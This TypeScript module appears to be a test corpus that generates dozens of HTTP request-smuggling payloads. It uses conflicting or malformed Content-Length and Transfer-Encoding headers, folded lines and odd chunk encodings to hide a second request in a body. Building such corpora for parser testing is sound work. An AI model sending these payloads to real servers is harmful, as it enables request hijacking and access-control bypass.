/** Writes a request: its first lines as they are, the lines that say how long its body is, and a body that hides another. */
type Write = (head: string, hidden: string) => string;

/**
 * Ways to write a body in which some reading of RFC 9112 and of its predecessors finds the hidden request, as body. Whoever carries
 * it out reads another way than a proxy may that let it pass.
 */
export const smugglingForms: readonly (readonly [string, Write])[] = [
  ...codings().flatMap(([name, line, strict]): [string, Write][] => [
    [`${name}, within the length`, withinLength(line)],
    ...(strict ? [] : [[`${name}, within a chunk`, withinChunk(line)] satisfies [string, Write]]),
  ]),
  ...lengths().map(([name, line]): [string, Write] => [name, ofLength(line)]),
  ...chunks().map(([name, body]): [string, Write] => [name, inChunks(body)]),
  [
    'HTTP/1.0 with chunks',
    (head, hidden) => withinChunk('transfer-encoding: chunked')(older(head), hidden),
  ],
  [
    'HTTP/1.0 with chunks, within the length',
    (head, hidden) => withinLength('transfer-encoding: chunked')(older(head), hidden),
  ],
  ...['websocket', 'h2c'].map((protocol): [string, Write] => [
    `an upgrade to ${protocol}, within the length`,
    (head, hidden) =>
      `${head}connection: upgrade\r\nupgrade: ${protocol}\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  ]),
  [
    'a length that the connection is told to drop',
    (head, hidden) =>
      `${head}connection: content-length\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  ],
  [
    'an expectation, and a body that does not wait',
    (head, hidden) =>
      `${head}expect: 100-continue\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  ],
  [
    'an expectation that nobody meets',
    (head, hidden) =>
      `${head}expect: the-impossible\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  ],
];

/**
 * Lines that say, or nearly say, that the body comes in chunks.
 * @returns of each whether it says nothing of the kind by the letter, so that a length beside it counts.
 */
function codings(): [name: string, line: string, strict?: true][] {
  return [
    ['a length and chunks', 'transfer-encoding: chunked'],
    ['chunks in capitals', 'Transfer-Encoding: CHUNKED'],
    ['chunks and identity', 'transfer-encoding: chunked, identity'],
    ['identity and chunks', 'transfer-encoding: identity, chunked'],
    ['an unknown coding', 'transfer-encoding: xchunked'],
    ['gzip alone', 'transfer-encoding: gzip'],
    ['chunks twice', 'transfer-encoding: chunked, chunked'],
    ['chunks in two lines', 'transfer-encoding: chunked\r\ntransfer-encoding: chunked'],
    [
      'chunks and identity in two lines',
      'transfer-encoding: chunked\r\ntransfer-encoding: identity',
    ],
    ['a space before the colon', 'transfer-encoding : chunked'],
    ['a tab before the colon', 'transfer-encoding\t: chunked'],
    ['a tab after the colon', 'transfer-encoding:\tchunked'],
    ['a vertical tab after the colon', 'transfer-encoding: \x0bchunked'],
    ['a null byte after the coding', 'transfer-encoding: chunked\0'],
    ['a comma after the coding', 'transfer-encoding: chunked,'],
    ['a comma before the coding', 'transfer-encoding: ,chunked'],
    ['a parameter of the coding', 'transfer-encoding: chunked;a=b'],
    ['quotes around the coding', 'transfer-encoding: "chunked"'],
    ['a folded line', 'transfer-encoding:\r\n chunked'],
    ['a coding folded after an empty one', 'transfer-encoding: \r\n\tchunked'],
    ['a line folded onto another', 'x: y\r\n transfer-encoding: chunked', true],
    ['a line that begins with a space', ' transfer-encoding: chunked', true],
    ['a bare line feed before it', 'x: y\ntransfer-encoding: chunked'],
    ['a bare carriage return before it', 'x: y\rtransfer-encoding: chunked', true],
    ['a null byte before it', '\0transfer-encoding: chunked', true],
    ['another character in the name', 'transfer_encoding: chunked', true],
    ['a byte beyond ASCII in the name', 'transfer-encoding\xa0: chunked', true],
    ['a header without a colon before it', 'x\r\ntransfer-encoding: chunked'],
  ];
}

/** The length counts the hidden request in; by chunks it comes after the last. */
function withinLength(line: string): Write {
  return (head, hidden) => {
    const body = `0\r\n\r\n${hidden}`;
    return `${head}${line}\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
  };
}

/** A chunk has the hidden request; by the length it comes after the body. */
function withinChunk(line: string): Write {
  return (head, hidden) => {
    const size = `${hidden.length.toString(16)}\r\n`;
    return `${head}content-length: ${size.length}\r\n${line}\r\n\r\n${size}${hidden}\r\n0\r\n\r\n`;
  };
}

/** Lines that give the length of the body, in ways that are read as this length, another or none. */
function lengths(): [name: string, line: (length: number) => string][] {
  return [
    ['two lengths, the first right', (n) => `content-length: ${n}\r\ncontent-length: 0`],
    ['two lengths, the last right', (n) => `content-length: 0\r\ncontent-length: ${n}`],
    ['two lengths in one line', (n) => `content-length: 0, ${n}`],
    ['a length with a plus', (n) => `content-length: +${n}`],
    ['a length with a minus', (n) => `content-length: -${n}`],
    ['a length in hexadecimal', (n) => `content-length: 0x${n.toString(16)}`],
    ['a length with an exponent', (n) => `content-length: ${n}e0`],
    ['a length with a fraction', (n) => `content-length: ${n}.0`],
    ['a length beyond 64 bits', (n) => `content-length: ${2n ** 64n + BigInt(n)}`],
    ['a length with a space in it', (n) => `content-length: 0 ${n}`],
    ['a length with a null byte', (n) => `content-length: ${n}\0`],
    ['a space before the colon of a length', (n) => `content-length : ${n}`],
    ['a folded length', (n) => `content-length:\r\n ${n}`],
    ['a length folded onto another', (n) => `content-length: 0\r\n ${n}`],
    ['a length after a bare line feed', (n) => `x: y\ncontent-length: ${n}`],
    ['a length after a bare carriage return', (n) => `content-length: 0\rcontent-length: ${n}`],
    ['a length in quotes', (n) => `content-length: "${n}"`],
  ];
}

function ofLength(line: (length: number) => string): Write {
  return (head, hidden) => `${head}${line(hidden.length)}\r\n\r\n${hidden}`;
}

/** Bodies of chunks in which the hidden request is one, or part of one, for who is not strict. */
function chunks(): [name: string, body: (hidden: string) => string][] {
  const size = (text: string) => text.length.toString(16);
  const last = '0\r\n\r\n';
  return [
    [
      'a line feed that ends an extension for some',
      (hidden) => {
        // By the line feed the data are some x, and the next chunk hides the request; else the data are that chunk's size.
        const next = size(last + hidden);
        return `${next.length};\n${'x'.repeat(next.length)}\r\n${next}\r\n${last}${hidden}\r\n${last}`;
      },
    ],
    ['an extension', (hidden) => `${size(hidden)};a="b;c"\r\n${hidden}\r\n${last}`],
    [
      'a long extension',
      (hidden) => `${size(hidden)};${'a'.repeat(20_000)}\r\n${hidden}\r\n${last}`,
    ],
    ['a line feed after the size', (hidden) => `${size(hidden)}\n${hidden}\r\n${last}`],
    ['a carriage return after the size', (hidden) => `${size(hidden)}\r${hidden}\r\n${last}`],
    ['a line feed after the data', (hidden) => `1\r\na\n${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['nothing after the data', (hidden) => `1\r\na${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['more data than the size', (hidden) => `1\r\na\r\n0${hidden}\r\n${last}`],
    ['a size with 0x', (hidden) => `0x${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['a size with a minus', (hidden) => `-${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['a size with a plus', (hidden) => `+${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['a size with a space before', (hidden) => ` ${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['a size with a space in it', (hidden) => `0 ${size(hidden)}\r\n${hidden}\r\n${last}`],
    [
      'a size beyond 64 bits',
      (hidden) => `1${size(hidden).padStart(16, '0')}\r\n${hidden}\r\n${last}`,
    ],
    ['a size with underscores', (hidden) => `0_${size(hidden)}\r\n${hidden}\r\n${last}`],
    ['no size', (hidden) => `\r\n${hidden}\r\n${last}`],
    ['a last chunk with a bare line feed', (hidden) => `0\n\n${hidden}`],
    ['a last chunk of which only half is there', (hidden) => `0\r\n${hidden}`],
    [
      'a length among the trailers',
      (hidden) => `1\r\na\r\n0\r\ncontent-length: ${hidden.length}\r\n${hidden}`,
    ],
  ];
}

function inChunks(body: (hidden: string) => string): Write {
  return (head, hidden) => `${head}transfer-encoding: chunked\r\n\r\n${body(hidden)}`;
}

function older(head: string): string {
  return head.replace('HTTP/1.1', 'HTTP/1.0');
}
